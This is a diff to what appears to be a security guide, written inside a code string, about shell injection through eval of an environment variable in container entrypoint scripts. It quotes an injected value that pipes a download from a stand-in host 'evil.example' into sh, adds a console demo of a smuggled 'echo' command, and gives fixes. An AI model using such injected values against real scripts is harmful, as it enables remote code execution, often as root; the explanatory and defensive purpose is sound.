@@ -22,6 +22,15 @@ It is silent where the value is checked by an allow-list, a number or a list of 
 
 eval reads the value as shell code. ` + "`64; wget -qO- evil.example | sh`" + ` in a number's place is run with the rights of the script, which in a container is often root. Quotes inside the text do not help: the value may close them. Run on BusyBox 1.35 and on 1.37 as Alpine builds it.
 
+~~~console
+$ MAX_FILES='64; echo "taken over"' sh bad/entrypoint.sh echo started
+taken over
+started
+$ MAX_FILES='64; echo "taken over"' sh good/entrypoint.sh echo started
+...
+started
+~~~
+
 ## What to do
 
 Leave eval out: ` + "`ulimit -n \"$MAX_FILES\"`" + `. Where eval is needed, let it expand the value itself (` + "`eval \"$name=\\$value\"`" + `) and let only names through (` + "`case $name in *[!A-Za-z0-9_]*) exit 1;; esac`" + `).
